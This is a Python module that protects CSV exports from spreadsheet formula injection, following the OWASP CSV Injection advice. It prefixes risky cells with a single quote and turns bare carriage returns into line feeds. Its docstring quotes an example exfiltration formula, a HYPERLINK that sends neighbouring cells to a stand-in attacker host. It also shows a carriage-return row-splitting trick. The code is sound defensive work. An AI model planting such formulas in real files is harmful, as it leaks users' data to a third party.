"""Cells of the CSV files Safehold writes, made safe to open in a spreadsheet.

A spreadsheet takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a tab, carriage
return or line feed before one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1,"Open")``
in an organisation's province would send the neighbouring cells to whoever wrote it. As OWASP
recommends (CSV Injection), such a cell is written with a single quote in front, which the
spreadsheet shows as text and a program reading the CSV can strip.

A plain number is left alone, even with a sign (``-3`` is a number, never a formula), so figures
stay figures. Today's exports hold no signed number at all (summary.csv's values are counts and
``x``, records.csv's are codes, bands, years and 0/1 flags), so the rule only ever changes text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@\t\r\n")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def neutralise(cell: str) -> str:
    """The cell, with a single quote in front if a spreadsheet would take it for a formula.

    A carriage return inside a cell becomes a line feed: Python's writer quotes a cell only for
    the line feed our files end lines with, so a bare carriage return would end the row for a
    spreadsheet and start the next one with whatever follows it (``x\r=HYPERLINK(...)``)."""
    if "\r" in cell:
        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
    if cell[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def safe_row(row: Iterable[str]) -> list[str]:
    """Every cell of ``row`` neutralised (the test inline: records.csv has millions of cells)."""
    return [neutralise(c) if c[:1] in FORMULA_STARTS or "\r" in c else c for c in row]
